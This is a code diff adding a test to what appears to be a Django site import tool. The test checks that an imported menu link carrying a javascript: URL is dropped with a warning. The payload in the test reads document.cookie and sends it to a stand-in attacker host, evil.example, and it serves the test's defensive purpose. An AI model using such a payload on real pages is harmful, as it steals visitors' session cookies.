@@ -433,3 +433,15 @@ def test_a_file_named_to_pass_as_one_type_and_be_served_as_another_is_refused(
     assert not ImportedFile.objects.filter(type="video").exists()
     assert not [name for name in ImportedFile.objects.values_list("file", flat=True) if ".htm" in name]
     assert "only PDF documents are imported" in output
+
+
+def test_a_menu_link_that_would_run_code_is_left_out_with_a_warning(importing, uploads, tmp_path, client):
+    export = tmp_path / "export.xml"
+    hostile = "javascript:fetch('//evil.example/?'+document.cookie)"
+    export.write_text(
+        MOVING.read_text(encoding="utf-8").replace("https://archive.example.net/", hostile), encoding="utf-8"
+    )
+    output = importing(export, media_dir=str(uploads))
+    assert "is not a web address; left out" in output
+    assert not MenuItem.objects.filter(url__icontains="script").exists()
+    assert "evil.example" not in client.get("/").content.decode()
